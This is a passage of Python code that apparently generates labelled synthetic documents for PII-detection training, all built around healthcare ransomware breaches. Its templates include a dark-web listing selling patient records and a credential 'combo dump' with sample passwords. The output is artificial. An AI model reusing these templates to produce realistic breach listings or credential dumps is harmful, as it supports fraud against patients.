    na, nb = a.user.lower() + "_" + str(w.rng.randint(10, 99)), b.first.lower() + "." + str(w.rng.randint(1000, 9999))
    lines = [
        (na, ["anyone else getting the fake ", O(w), " portal texts? link goes to ", w.aurl(True)]),
        (nb, ["yeah my mum ", None, " got one, she almost typed her DOB ", None]),
        (na, ["don't click. report to ", I(f"privacy@{w.domain}", "EMAIL"), " they said"]),
        (nb, ["the number it came from was ", w.aphone(), " lol"]),
        (na, ["i work at the front desk there (", nm(a), ") – we're on it. it's ", w.ransom(), " crew per the news"]),
    ]
    pt = w.person()
    for who, parts in lines:
        d.t("[").put(N(f"{w.rng.randint(1, 12)}/{w.rng.randint(1, 28)}/2026 {w.rng.randint(1, 12)}:{w.rng.randint(0, 59):02d} PM", "CHAT_TIME")).t("] ")
        d.put(I(who, "USER")).t("\n")
        for x in parts:
            if x is None:
                x = nm(pt) if not d.plain().endswith("DOB ") else I(w.d(w.dob(), 2), "DATE")
            d.put(x)
        d.t("\n\n")
    return d


def st_mastodon(w):
    d = Doc()
    acct = f"@{w.person().user.replace('.', '_')}@{w.rng.choice(['infosec.exchange', 'mastodon.social', 'ioc.exchange'])}"
    d.t("🧵 1/4 ").put(w.ransom()).t(" claims ").put(O(w)).t(" on their leak site. Posted sample includes intake forms (names, DOBs) – not resharing.\n\n")
    d.t("2/4 C2 seen in the sample's metadata: ").put(w.aip()).t(" / ").put(w.adom()).t(". Loader hash ").put(w.hash()).t("\n\n")
    pt = w.person()
    d.t("3/4 One screenshot shows a discharge summary for a patient born ").put(I(w.d(w.dob(), 5), "DATE")).t(" with surname ").put(nm(pt, "last")).t(" blurred badly. Please don't amplify.\n\n")
    d.t("4/4 Entry likely ").put(w.cve()).t(" on their VPN. #ransomware #healthcare #infosec\n\n— boosted by ").put(I(acct, "USER")).t("\n")
    return d


def st_reddit(w):
    p, s = pt_slots(w)
    me = w.person()
    d = Doc()
    d.fill("r/sysadmin · Posted by u/{u}\n\n**Small clinic, got a scam \"Microsoft\" call, remote session was opened – what now?**\n\n"
           "I'm the practice manager at {org} ({city}), 6 staff, no IT person. Yesterday our receptionist {rname} got a call from {aph} saying our email was hacked. "
           "She installed AnyDesk and read him the code {rid}. He was on {host} for ~20 min. That PC has the scheduling app open all day, e.g. today's list had {pname} (DOB {dob}) on it.\n\n"
           "Our IT guy {itn} is on holiday. The router log shows the session went to {aip}. What do I do first?\n\n"
           "Edit: {itfirst} called back, wiping tonight. Thanks all!\n\n---\n**top comment** · u/{cu}\nPull the network cable, change the email passwords from a different PC, call your insurer. And report it — HIPAA counts this as a possible breach.\n",
           u=I(me.user.replace(".", "_") + str(w.rng.randint(1, 99)), "USER"), org=s["org"], city=s["city"], rname=nm(w.person()), aph=w.aphone(), rid=w.remote_id(),
           host=I(w.host("fd"), "HOSTNAME"), pname=s["pname"], dob=s["dob"], itn=nm((it := w.person())), aip=w.aip(), itfirst=nm(it, "first"), cu="throwaway_bofh")
    return d


def st_darkweb(w):
    d = Doc()
    d.fill("[SELLING] {org} – {n}k patient records, fresh\n\nPosted by {actor} » {t}\n\nFull EHR export, {n}k rows, SSN + insurance + diagnoses. Sample below (10 rows of 40k):\n\n",
           org=O(w), n=str(w.rng.randint(12, 90)), actor=X(w.rng.choice(["bashe_ops", "0x_medicus", "KillNet_resale", "vanir.grp"]), "ACTOR"), t=N(w.ts(sep=" ", z=""), "POST_TIME"))
    d.t("mrn|last|first|dob|ssn|street|city|zip|plan_id\n")
    for _ in range(w.rng.randint(4, 7)):
        p, s = pt_slots(w)
        sid, _ = w.nid()
        d.put(s["mrn"]).t("|").put(nm(p, "last")).t("|").put(nm(p, "first")).t("|").put(I(w.d(w.dob(), 0), "DATE")).t("|").put(I(sid, "SSN")).t("|")
        d.put(s["street"]).t("|").put(s["city"]).t("|").put(s["zip"]).t("|").put(I(f"{w.rng.choice(['XJH', 'MCD', 'W'])}{w.rng.randint(100000000, 999999999)}", "HEALTH_PLAN")).t("\n")
    d.t("\nPrice 2 BTC, escrow ok. Wallet: ").put(w.wallet()).t("\nContact tox / session only. Proof of access: domain admin ").put(I(f"{w.ad}\\{w.person().user}", "USER")).t(" screenshot.\n")
    return d


def st_paste(w):
    d = Doc()
    d.t("---- combo dump // ").put(I(w.domain, "HOSTNAME")).t(" // by ").put(w.actor()).t(" ----\n")
    for _ in range(w.rng.randint(5, 9)):
        p = w.person()
        k = w.rng.random()
        if k < 0.5:
            d.put(nm(p, "email")).t(":").t(w.rng.choice(["Summer2026!", "Welcome1", "Hope@123", "P@ssw0rd99", "Clinic#2026"])).t("\n")
        elif k < 0.8:
            d.t("https://").put(I("vpn." + w.domain, "HOSTNAME")).t(":").put(I(p.user, "USER")).t(":").t(w.rng.choice(["Spring25", "qwerty!1", "Mark1234"])).t("\n")
        else:
            d.put(I(f"{w.ad}\\{p.user}", "USER")).t(":" + ind.hexstr(w.rng, 32) + "\n")
    d.t("\nmore at ").put(w.aurl()).t(" | uploaded via ").put(w.aip()).t("\n")
    return d


def st_news(w):
    p, s = pt_slots(w)
    sp = w.person()
    d = Doc()
    d.fill("{cityx} — {org} said Thursday that a ransomware attack attributed to the {gang} group may have exposed the records of about {n} patients.\n\n"
           "Spokesperson {spn} said the clinic detected the intrusion on {when} and shut its systems down. \"We're sorry,\" {splast} said.\n\n"
           "One patient, {pname}, 71, of {city}, said she learned of the breach when a stranger phoned her at home quoting her date of birth. "
           "\"I've been coming here since my son Will was born,\" {pfirst} said.\n\n"
           "Security researchers linked the attack to {cve} in the clinic's file-transfer appliance. The group's leak site lists {dom}.\n\n"
           "The clinic has set up a call centre and is offering credit monitoring. \"Mark my words, this will happen again,\" one board member said. Staff at the Hope Street campus were sent home early.\n",
           cityx=I(w.rng.choice(w.cities).upper(), "CITY"), org=s["org"], gang=w.ransom(), n=f"{w.rng.randint(2, 90)},{w.rng.randint(100, 999)}",
           spn=nm(sp), when=N("Oct. " + str(w.rng.randint(1, 28)), "DATE_NEUTRAL"), splast=nm(sp, "last"), pname=s["pname"], city=s["city"], pfirst=nm(p, "first"),
           cve=w.cve(), dom=w.adom())
    return d


def st_press(w):
    ceo, ciso = w.person(), w.person()
    d = Doc()
    d.fill("FOR IMMEDIATE RELEASE\n\n{org} Provides Update on Cybersecurity Incident\n\n{city}, {date} — {org2} today announced that it has restored core clinical systems following a network disruption first identified on {date2}. "
           "The investigation, supported by an outside forensic firm, found that an unauthorized party accessed certain file servers between {d3} and {d4}.\n\n"
           "\"Our patients' trust matters above all,\" said {ceo}, Chief Executive Officer. \"We will mail letters to everyone affected.\"\n\n"
           "Individuals with questions may call the dedicated line at 1-888-{n} (toll-free), Monday–Friday. Media contact: {ciso}, {cmail}, {cphone}.\n\n###\n",
           org=O(w), city=I(w.rng.choice(w.cities), "CITY"), date=N("November " + str(w.rng.randint(1, 28)) + ", 2026", "DATE_NEUTRAL"), org2=O(w),
           date2=N("October " + str(w.rng.randint(1, 28)), "DATE_NEUTRAL"), d3=N("September 30", "DATE_NEUTRAL"), d4=N("October 4", "DATE_NEUTRAL"),
           ceo=nm(ceo), n=f"{w.rng.randint(200, 999)}-{w.rng.randint(1000, 9999)}", ciso=nm(ciso), cmail=nm(ciso, "email"), cphone=I(w.phone(), "PHONE"))
    return d


def st_podcast(w):
    host_, guest = w.person(), w.person()
    p = w.person()
    d = Doc()
    for tc, who, parts in [
        ("00:00:04", host_, ["Welcome back to Patch Tuesday Clinic. Today I'm with ", nm(guest), ", who runs IT at ", O(w), "."]),
        ("00:01:12", guest, ["Thanks. So, in March we got hit — ", w.ransom(), ", came in through ", w.cve(), "."]),
        ("00:02:40", host_, ["And you found the beacon going to ", w.adom(), "?"]),
        ("00:02:51", guest, ["Right. Funny thing, the first alert fired on the workstation of our nurse, ", nm(p), " — I've got her permission to say that — ", nm(p, "first"), " noticed the screen go black."]),
        ("00:04:15", host_, ["Will you pay next time?"]),
        ("00:04:20", guest, ["No. Hope is not a strategy. ", nm(guest, "last"), "'s law."]),
    ]:
        d.t("[").put(N(tc, "TIMECODE")).t("] ").put(nm(who, "first").__class__ and I(who.first.upper(), "NAME")).t(": ")
        for x in parts:
            d.put(x)
        d.t("\n")
    return d


def st_court(w):
    p, s = pt_slots(w)
    p2, s2 = pt_slots(w)
    d = Doc()
    d.fill("UNITED STATES DISTRICT COURT\n\n{pn} and {pn2}, individually and on behalf of all others similarly situated,\n    Plaintiffs,\nv.\n{org},\n    Defendant.\n\nCase No. 2:26-cv-0{c}\n\nCLASS ACTION COMPLAINT\n\n"
           "14. Plaintiff {pn} is a resident of {city}, residing at {street}. Plaintiff received treatment at Defendant's clinic on {visit}.\n"
           "15. On or about {dnot}, Plaintiff received a notice letter stating that her name, date of birth, Social Security number and medical record number {mrn} were exfiltrated.\n"
           "16. Plaintiff {pl2} is a resident of {city2}. Since the breach he has received phishing e-mails from {am} referring to his diagnosis.\n"
           "17. The threat actor, known as {gang}, published the data on its leak site.\n",
           pn=s["pname"], pn2=s2["pname"], org=s["org"], c=str(w.rng.randint(1000, 9999)), city=s["city"], street=s["street"], visit=s["visit"],
           dnot=N("December 1, 2026", "DATE_NEUTRAL"), mrn=s["mrn"], pl2=nm(p2, "last"), city2=s2["city"], am=w.amail(True), gang=w.ransom())
    return d


def st_ombudsman(w):
    p, s = pt_slots(w)
    staff = w.person()
    d = Doc()
    d.fill("Health Ombudsman — complaint form (online)\nReference: HO-{ref}\n\nComplainant: {pname}\nDate of birth: {dob}\nAddress: {street}, {city} {zip}\nTelephone: {phone}\nEmail: {em}\n\n"
           "Provider complained about: {org}\n\nWhat happened:\nmy records were in the hack they had last month. then someone rang me from {aph} pretending to be from the clinic asking me to confirm my medicare number. "
           "when i complained at reception {staff} told me it was \"not their problem\". i was seen there on {visit} for my knee. I want an apology and to know what was taken.\n",
           ref=str(w.rng.randint(100000, 999999)), pname=s["pname"], dob=s["dob"], street=s["street"], city=s["city"], zip=s["zip"], phone=s["phone"],
           em=I(ind.slug(p.first) + "." + ind.slug(p.last) + str(w.rng.randint(1, 99)) + "@hotmail.com", "EMAIL"), org=s["org"], aph=w.aphone(), staff=nm(staff, "first"), visit=s["visit"])
    return d


def st_claim(w):
    p, s = pt_slots(w)
    d = Doc()
    plan = f"{w.rng.choice(['BCX', 'UHC', 'AET', 'MOL'])}{w.rng.randint(100000000, 999999999)}"
    d.fill("CLAIM NARRATIVE — suspected medical identity theft\nMember: {pname}   Member ID: {plan}   Group: {grp}\nDOB: {dob}\n\n"
           "Member called on {d1} disputing claims for an MRI on {d2} and a wheelchair billed under account {acct}. Member states she has never been seen at {org}. "
           "Provider NPI {npi} (Dr. {doc}) confirmed the visit was booked by phone from {aph} with the member's details. "
           "Member believes her data came from the {gang} breach. Member reachable at {phone}.\n",
           pname=s["pname"], plan=I(plan, "HEALTH_PLAN"), grp=str(w.rng.randint(1000, 9999)), dob=s["dob"], d1=I(w.d(w.recent()), "DATE"), d2=I(w.d(w.recent()), "DATE"),
           acct=I(str(w.rng.randint(10**8, 10**9)), "ACCOUNT"), org=s["org"], npi=I(str(w.rng.randint(10**9, 2 * 10**9)), "LICENSE"), doc=nm(w.person(), "last"),
           aph=w.aphone(), gang=w.ransom(), phone=s["phone"])
    return d


def st_grievance(w):
    p, s = pt_slots(w)
    son = w.person()
    d = Doc()
    d.fill("{street}\n{city} {zip}\n{date}\n\nPatient Relations\n{org}\n\nRe: formal grievance — {pname}, MRN {mrn}\n\nTo whom it may concern,\n\n"
           "I am writing about my father, {pname2}, who is {age} years old. On {adm} he was admitted and on {dis} he was discharged without his medicines. "
           "Worse, I have since received a text from {aph} with a link ({url}) saying his \"portal password expired\". Your staff member {nurse} said the clinic \"had a computer virus\". "
           "I expect a written answer.\n\nYours faithfully,\n{son}\n{sphone}\n",
           street=s["street"], city=s["city"], zip=s["zip"], date=N(w.d(w.recent(), 4), "DATE_NEUTRAL"), org=s["org"], pname=s["pname"], mrn=s["mrn"], pname2=nm(p),
           age=I(str(w.rng.randint(90, 103)), "AGE"), adm=I(w.d(w.recent(), 4), "DATE"), dis=I(w.d(w.recent(), 4), "DATE"), aph=w.aphone(), url=w.aurl(),
           nurse=nm(w.person(), "init"), son=nm(son), sphone=I(w.phone(), "PHONE"))
    return d


def st_locum(w):
    doc = w.person()
    mgr = w.person()
    st, city, z = w.addr()
    d = Doc()
    d.fill("LOCUM TENENS AGREEMENT\n\nBetween {org} (\"the Practice\") and Dr {doc} (\"the Locum\"), of {st}, {city} {z}.\n\n1. Term: {d1} to {d2}.\n2. Registration: medical council no. {lic}; indemnity policy {pol}.\n"
           "3. Payment: fortnightly to account {acct} (account name {doc2}).\n4. IT access: the Locum will be issued the login {user} and a token; remote access only from the Practice's VPN.\n"
           "5. Contact: {mob}, {em}.\n\nSigned: ______ {mgr}, Practice Manager\n",
           org=O(w), doc=nm(doc), st=I(st, "ADDRESS"), city=I(city, "CITY"), z=I(z, "ZIP") if z else I(w.rng.choice(w.cities), "CITY"), d1=N(w.d(w.recent(), 0), "DATE_NEUTRAL"), d2=N(w.d(w.recent(), 0), "DATE_NEUTRAL"),
           lic=I(f"{w.rng.choice(['MC', 'REG', 'L'])}{w.rng.randint(10000, 999999)}", "LICENSE"), pol=I(f"IND-{w.rng.randint(100000, 999999)}", "ID"),
           acct=I(f"{w.rng.randint(100, 999)}-{w.rng.randint(100, 999)} {w.rng.randint(10000000, 99999999)}", "ACCOUNT"), doc2=nm(doc, "Last, First"),
           user=nm(doc, "user"), mob=I(w.phone(), "PHONE"), em=I(ind.slug(doc.first) + ind.slug(doc.last) + "@gmail.com", "EMAIL"), mgr=nm(mgr))
    return d


def st_oncall(w):
    a, b = w.person(), w.person()
    pt = w.person()
    d = Doc()
    msgs = [(a, ["can u swap sat 4th? kid's recital"]), (b, ["ok if u take my sun. is bed 7 ", nm(pt, "last"), " still on the list?"]),
            (a, ["yes. ", nm(pt, "init"), " ", I(str(w.rng.randint(90, 99)), "AGE"), "yo, fall, family is ", I(w.phone(), "PHONE")]),
            (None, ["[", O(w), " IT] your rota account will be locked. verify: ", w.aurl(True)]),
            (b, ["did u get that IT text?? from ", w.aphone(), " – not ours right"]),
            (a, ["fake. forwarded to ", I(w.person().user, "USER"), " in IT. swap confirmed ", nm(b, "first"), " 👍"])]
    for who, parts in msgs:
        d.put(N(f"{w.rng.randint(1, 28):02d}/{w.rng.randint(1, 12):02d}, {w.rng.randint(0, 23):02d}:{w.rng.randint(0, 59):02d}", "CHAT_TIME")).t(" - ")
        d.put(nm(who) if who else X("+" + str(w.rng.randint(10**10, 10**11)), "PHONE_ATTACKER")).t(": ")
        for x in parts:
            d.put(x)
        d.t("\n")
    return d


# --------------------------------------------------------------------------- styles: clinical / forms
def form(w, title, rows, tail=None):
    d = Doc()
    d.t(title + "\n" + "=" * len(title) + "\n")
    for k, v in rows:
        d.t(f"{k}:".ljust(w.rng.choice([18, 22, 26])))
        d.put(v)
        d.t("\n")
    if tail:
        d.t("\n").put(tail)
    return d


def st_cad(w):
    p, s = pt_slots(w)
    rows = [("INC#", f"{w.rng.randint(26, 26)}-{w.rng.randint(100000, 999999)}"), ("RCVD", N(w.ts(sep=" ", z=""), "TIMESTAMP")), ("NATURE", "FALL / 17-D-3"),
            ("LOC", s["street"]), ("CITY", s["city"]), ("XST", w.rng.choice(["MAIN ST / CHURCH ST", "HOPE AVE / MILL RD"])), ("CALLER", nm(w.person(), "LAST, First")),
            ("CBN", s["phone"]), ("PT", nm(p, "LAST, First")), ("AGE", I(str(w.rng.randint(90, 104)), "AGE")), ("UNIT", f"M{w.rng.randint(10, 99)} / E{w.rng.randint(1, 9)}"),
            ("DISP", I(w.person().user.upper(), "USER")), ("MDT", I(f"MDT-{w.rng.randint(10, 99)}", "HOSTNAME")), ("ARRV", I(w.ts(sep=" ", z=""), "DATETIME")), ("DEST", s["org"])]
    d = form(w, "CAD INCIDENT DETAIL", rows)
    d.t("NARR: PT ON FLOOR X2HRS, SON ").put(nm(w.person(), "first")).t(" ON SCENE. ***CAD REPLICATION DELAYED - CYBER DOWNTIME, PAPER RUN SHEETS***\n")
    return d


def st_poison(w):
    p, s = pt_slots(w)
    d = Doc()
    d.fill("Poison information call — case {case}\nCall received: {t}   Specialist: {spec}\nCaller: mother ({mom}), {phone}, {city}\nPatient: {pname}, DOB {dob}, wt 14 kg\n"
           "Substance: ~6 x paracetamol 500 mg + unknown amount of \"Hope\" brand dish liquid\nTime of ingestion: {ing}\nAdvice: to ED at {org}; 4-h level.\n"
           "Follow-up call {fu}: level below line, discharged.\n\nNB database was offline ({gang} outage), case typed later by {u}.\n",
           case=I(f"PIC{w.rng.randint(100000, 999999)}", "ID"), t=N(w.ts(sep=" ", z=""), "TIMESTAMP"), spec=nm(w.person()), mom=nm(w.person()), phone=s["phone"], city=s["city"],
           pname=s["pname"], dob=I(w.d((2023, w.rng.randint(1, 12), w.rng.randint(1, 28))), "DATE"), ing=I(w.ts(sep=" ", z=""), "DATETIME"), org=s["org"],
           fu=I(w.ts(sep=" ", z=""), "DATETIME"), gang=w.ransom(), u=I(w.person().user, "USER"))
    return d


def st_travelvax(w):
    p, s = pt_slots(w)
    d = form(w, "International Certificate / travel clinic vaccination record", [
        ("Name", s["pname"]), ("Date of birth", s["dob"]), ("Passport no.", I(f"{w.rng.choice('NPTKM')}{w.rng.randint(1000000, 9999999)}", "ID")),
        ("Destination", w.rng.choice(["Ghana, Togo", "Peru (Cusco)", "Papua New Guinea", "Kenya"])), ("Yellow fever", I(w.d(w.recent(), 3), "DATE")),
        ("Typhoid Vi", I(w.d(w.recent(), 3), "DATE")), ("Batch", f"YF{w.rng.randint(1000, 9999)}B"), ("Clinician", nm(w.person())), ("Clinic", s["org"])])
    d.t("\nScanned copy stored as ").put(I(f"{p.last}_{p.first}_ICVP.jpg", "PHOTO")).t(" on ").put(I(w.srv(), "HOSTNAME")).t("\n")
    return d


def st_vet(w):
    owner = w.person()
    st, city, z = w.addr()
    pet = w.rng.choice(["Hope", "Biscuit", "Mark", "Will", "Pepper", "Luna", "Brownie", "Rocky"])
    d = Doc()
    d.fill("Boa Vista cross-over note (human & vet reception share one PMS)\n\nOwner: {own}\nAddress: {st}, {city} {z}\nMobile: {mob}   Email: {em}\nCard on file: **** **** **** {card}\nPet: {pet} (canine, 7y) — vaccinations due\n\n"
           "Owner is also a patient of the human clinic (MRN {mrn}). During the outage the PMS printed owner statements to {host}. "
           "Owner received a WhatsApp from {aph} asking for payment of an \"overdue invoice\" to IBAN {iban}.\n",
           own=nm(owner), st=I(st, "ADDRESS"), city=I(city, "CITY"), z=I(z, "ZIP") if z else I(w.rng.choice(w.cities), "CITY"), mob=I(w.phone(), "PHONE"),
           em=I(ind.slug(owner.first) + str(w.rng.randint(1, 999)) + "@gmail.com", "EMAIL"), card=I(str(w.rng.randint(1000, 9999)), "ACCOUNT"), pet=pet, mrn=I(w.mrn(), "MRN"),
           host=I(w.host(), "HOSTNAME"), aph=w.aphone(), iban=w.iban())
    return d


def st_dentalimg(w):
    d = Doc()
    d.t("[ExportHeader]\nSoftware=ImagingSuite 9.4\nStation=").put(I(w.host(), "HOSTNAME")).t("\nExportedBy=").put(I(w.person().user, "USER")).t("\n\n")
    for i in range(w.rng.randint(2, 4)):
        p, s = pt_slots(w)
        d.t(f"[Patient{i + 1}]\nPatientID=").put(s["mrn"]).t("\nLastName=").put(nm(p, "last")).t("\nFirstName=").put(nm(p, "first")).t("\nBirthDate=").put(I(w.d(w.dob(), 7), "DATE"))
        d.t("\nImage1=\\\\").put(I(w.srv(), "HOSTNAME")).t("\\xray$\\").put(I(f"{p.last}{p.first[0]}", "NAME")).t("\\BW_").put(I(w.d(w.recent(), 7), "DATE")).t(".dcm\nModality=IO\nSensor=Size 2\n\n")
    d.t("; share opened from ").put(w.aip()).t(" — check with ").put(nm(w.person(), "init")).t("\n")
    return d


def st_optometry(w):
    d = Doc()
    d.t("RECALL LIST — ").put(O(w)).t(" — due this month\nPatient                 | DOB        | Last exam  | Phone            | Rx\n")
    for _ in range(w.rng.randint(5, 8)):
        p = w.person()
        d.put(nm(p, "Last, First")).t(" | ").put(I(w.d(w.dob(), 1), "DATE")).t(" | ").put(I(w.d(w.recent(), 1), "DATE")).t(" | ").put(I(w.phone(), "PHONE"))
        d.t(" | " + w.rng.choice(["-1.25/-0.50x180", "+2.00 add", "plano", "-4.75 OU"]) + "\n")
    d.t("\nreminder texts failed — SMS gateway creds found in paste, blocked sender ").put(w.aphone()).t(" spoofing us.\n")
    return d


def st_hearing(w):
    p, s = pt_slots(w)
    d = Doc()
    d.fill("Fitting session log — {pname} ({mrn})\nDOB {dob}\nAudiologist: {aud}\nDevice L: serial {sl}   Device R: serial {sr}\nApp pairing: {phone}\nFirmware 3.2.1 -> 3.3.0\n"
           "{t} REM done, gain +3 dB @2k\n{t2} Remote-care session requested by patient from IP {pip}\n\nNote: patient reported a caller ({aph}) asking for her app PIN.\n",
           pname=s["pname"], mrn=s["mrn"], dob=s["dob"], aud=nm(w.person()), sl=I(f"{w.rng.randint(10**8, 10**9)}", "DEVICE"), sr=I(f"{w.rng.randint(10**8, 10**9)}", "DEVICE"),
           phone=s["phone"], t=N(f"{w.rng.randint(8, 17):02d}:{w.rng.randint(0, 59):02d}", "TIME"), t2=N(f"{w.rng.randint(8, 17):02d}:{w.rng.randint(0, 59):02d}", "TIME"),
           pip=I(ind.public_ipv4(w.rng), "IP"), aph=w.aphone())
    return d


def st_sleep(w):
    p, s = pt_slots(w)
    d = Doc()
    d.fill("POLYSOMNOGRAPHY REPORT\n{org}\nPatient: {pname}   DOB: {dob}   MRN: {mrn}\nStudy date: {sd}   Referring: Dr. {ref}\n\nAHI 31.4/h (severe). SpO2 nadir 79%. CPAP titrated to 11 cmH2O.\n"
           "CPAP issued: serial {ser}, modem IMEI {imei}\nScored by {tech}. Raw EDF stored at \\\\{srv}\\psg\\{sd2}_{plast}.edf\n",
           org=O(w), pname=s["pname"], dob=s["dob"], mrn=s["mrn"], sd=I(w.d(w.recent()), "DATE"), ref=nm(w.person(), "last"),
           ser=I(f"{w.rng.randint(2200000000, 2299999999)}", "DEVICE"), imei=I(str(w.rng.randint(10**14, 10**15)), "DEVICE"), tech=nm(w.person(), "init"),
           srv=I(w.srv(), "HOSTNAME"), sd2=I(w.d(w.recent(), 7), "DATE"), plast=nm(p, "last"))
    return d


def st_donor(w):
    p, s = pt_slots(w)
    d = Doc()
    d.fill("{street}\n{city} {zip}\n\nDear {pfirst},\n\nThank you for coming to donate on {dd}. Donor number {donor}. Based on your answers you are temporarily deferred until {until} (recent travel).\n"
           "Please ignore any e-mail asking you to \"re-register\" at {dom} – it is not from {org}.\n\nKind regards,\n{nurse}\nDonor Care\n",
           street=s["street"], city=s["city"], zip=s["zip"], pfirst=s["pfirst"], dd=I(w.d(w.recent(), 5), "DATE"), donor=I(f"D{w.rng.randint(10**7, 10**8)}", "ID"),
           until=I(w.d((2027, w.rng.randint(1, 12), w.rng.randint(1, 28)), 5), "DATE"), dom=w.adom(), org=O(w), nurse=nm(w.person()))
    return d


def st_medwatch(w):
    p, s = pt_slots(w)
    d = form(w, "MEDWATCH 3500-style report (draft)", [
        ("A1 Patient identifier", I("".join(x[0] for x in p.full.split()[:2]), "NAME")), ("A2 Age", I(str(w.rng.randint(90, 101)), "AGE")), ("A3 Sex", "F"),
        ("B3 Date of event", I(w.d(w.recent(), 1), "DATE")), ("D1 Product", "insulin pump, model 770G"), ("D4 Serial #", I(f"NG{w.rng.randint(1000000, 9999999)}H", "DEVICE")),
        ("D4 UDI", I(f"(01)00{w.rng.randint(10**11, 10**12)}(17)270101(21){w.rng.randint(10**6, 10**7)}", "DEVICE")), ("E1 Reporter", nm(w.person())),
        ("E1 Phone", I(w.phone(), "PHONE"))])
    d.t("\nB5 Describe event: Pump delivered bolus after the clinic's Wi-Fi was compromised (").put(w.malware()).t("); patient found hypoglycaemic by daughter ").put(nm(w.person(), "first")).t(".\n")
    return d


def st_vaers(w):
    p, s = pt_slots(w)
    d = Doc()
    d.fill("VAERS-like report — submission {sub}\n1. Patient name: {pname}\n2. Address: {street}, {city} {zip}\n3. Telephone: {phone}\n6. DOB: {dob}\n7. Age at vaccination: {age}\n"
           "8. Vaccine: Influenza (HD), lot {lot}, given {vd} by {vax}\n18. Adverse event: fever, syncope in car park 20 min after\nForm completed by {by} ({byu}) on {host}.\n",
           sub=I(f"{w.rng.randint(100000, 999999)}-1", "ID"), pname=s["pname"], street=s["street"], city=s["city"], zip=s["zip"], phone=s["phone"], dob=s["dob"],
           age=I(str(w.rng.randint(90, 99)), "AGE"), lot=f"U{w.rng.randint(1000, 9999)}AA", vd=I(w.d(w.recent()), "DATE"), vax=nm(w.person()), by=nm((b := w.person())),
           byu=nm(b, "user"), host=I(w.host(), "HOSTNAME"))
    return d


def st_deathcert(w):
    p, s = pt_slots(w)
    sid, _ = w.nid()
    d = form(w, "DEATH CERTIFICATE WORKSHEET", [
        ("1. Decedent", nm(p, "LAST, First")), ("2. SSN", I(sid, "SSN")), ("3. Age", I(str(w.rng.randint(90, 106)), "AGE")), ("4. DOB", s["dob"]),
        ("5. Place of death", s["org"]), ("6. Residence", s["street"]), ("6b. City", s["city"]), ("7. Date of death", I(w.d(w.recent(), 2), "DATE")),
        ("8. Time", I(f"{w.rng.randint(0, 23):02d}{w.rng.randint(0, 59):02d}", "DATETIME")), ("9. Informant", nm(w.person())), ("10. Relationship", "daughter"),
        ("11. Certifier", nm(w.person())), ("12. License", I(f"MD{w.rng.randint(10000, 99999)}", "LICENSE"))])
    d.t("\nEDRS unavailable (network isolated after ").put(w.ransom()).t("); worksheet faxed to ").put(I(w.phone(), "FAX")).t(".\n")
    return d


def st_autopsy(w):
    p, s = pt_slots(w)
    d = Doc()
    d.fill("REQUEST FOR AUTOPSY\nTo: {org}\nDecedent: {pname}  MRN {mrn}\nDate/time of death: {dod}\nNext of kin: {nok} ({rel}), {phone}\nConsent obtained by: Dr. {dr} in presence of {wit}\n"
           "Clinical question: unexplained arrest after ICU infusion pump alarm during the cyber downtime.\nBody released to: funeral home; vehicle plate {plate}\n",
           org=O(w), pname=s["pname"], mrn=s["mrn"], dod=I(w.ts(sep=" ", z=""), "DATETIME"), nok=nm(w.person()), rel="son", phone=s["phone"], dr=nm(w.person(), "last"), wit=nm(w.person()),
           plate=I(f"{digits(w.rng, '@@@ ####')}", "VEHICLE"))
    return d


def st_irb(w):
    pi = w.person()
    d = Doc()
    d.fill("IRB PROTOCOL DEVIATION REPORT\nProtocol: 2025-{n} \"Hope-HF\" (heart failure remote monitoring)\nPI: {pi}\nSubject ID: {sid}   Enrolled: {en}\n\nDescription: on {dd} the study laptop {host} (user {user}) was found infected with {mal}; "
           "the enrolment log with subject initials, dates of birth and phone numbers was on the desktop. Subject {sid2} (DOB {dob}) data may be affected.\nCorrective action: laptop re-imaged; log moved to REDCap.\nReported by {rep}, {email}\n",
           n=str(w.rng.randint(100, 999)), pi=nm(pi), sid=I(f"HHF-{w.rng.randint(100, 999)}", "ID"), en=I(w.d(w.recent()), "DATE"), dd=N(w.d(w.recent()), "DATE_NEUTRAL"),
           host=I(w.host("lt"), "HOSTNAME"), user=nm(pi, "user"), mal=w.malware(), sid2=I(f"HHF-{w.rng.randint(100, 999)}", "ID"), dob=I(w.d(w.dob()), "DATE"),
           rep=nm((r := w.person())), email=nm(r, "email"))
    return d


def st_ltccensus(w):
    d = Doc()
    d.t("Facility,Unit,Room,Resident,Resident ID,DOB,Admission,Payer,Payer ID,Physician\n")
    for _ in range(w.rng.randint(5, 8)):
        p = w.person()
        d.t(w.short + "," + w.rng.choice(["Maple", "Willow", "Hope", "Rose"]) + "," + str(w.rng.randint(100, 140)) + w.rng.choice("AB") + ",\"").put(nm(p, "Last, First")).t("\",")
        d.put(I(str(w.rng.randint(10000, 99999)), "MRN")).t(",").put(I(w.d(w.dob(), 1), "DATE")).t(",").put(I(w.d(w.recent(), 1), "DATE")).t(",Medicare A,")
        d.put(I(f"{w.rng.randint(1, 9)}{digits(w.rng, '@@#-@@#-@@##')}", "HEALTH_PLAN")).t(",Dr. ").put(nm(w.person(), "last")).t("\n")
    d.t("\n# exported by ").put(I(w.person().user, "USER")).t(" during downtime; file later found in ").put(X("Rclone", "MALWARE")).t(" staging dir\n")
    return d


def st_pmappt(w):
    d = Doc()
    d.t("appt_date\tappt_time\tprovider\tpatient\tdob\thome_phone\treason\tins_member_id\n")
    prov = [w.person() for _ in range(2)]
    for _ in range(w.rng.randint(5, 9)):
        p = w.person()
        d.put(I(w.d(w.recent(), 0), "DATE")).t("\t").put(N(f"{w.rng.randint(8, 16)}:{w.rng.choice(['00', '15', '30', '45'])}", "TIME")).t("\t").put(nm(w.rng.choice(prov), "init")).t("\t")
        d.put(nm(p, "LAST, First")).t("\t").put(I(w.d(w.dob(), 1), "DATE")).t("\t").put(I(w.phone(), "PHONE")).t("\t" + w.rng.choice(["f/u HTN", "well child", "flu shot", "Will discuss labs", "mark on back"]) + "\t")
        d.put(I(f"{w.rng.choice(['ZGP', 'H', 'MCO'])}{w.rng.randint(10**7, 10**9)}", "HEALTH_PLAN")).t("\n")
    return d


def STR(*parts):
    return ["__str__"] + list(parts)


def uid(w):
    r = w.rng
    return f"{ind.hexstr(r, 8)}-{ind.hexstr(r, 4)}-4{ind.hexstr(r, 3)}-a{ind.hexstr(r, 3)}-{ind.hexstr(r, 12)}"


def stix_bundle(w, d, indent):
    ident = "identity--" + uid(w)
    p = w.person()
    objs = [OBJ(("type", "identity"), ("spec_version", "2.1"), ("id", ident), ("created", N(w.ts().replace("Z", ".000Z"), "STIX_TIME")), ("name", O(w)), ("identity_class", "organization"), ("sectors", ["healthcare"]))]
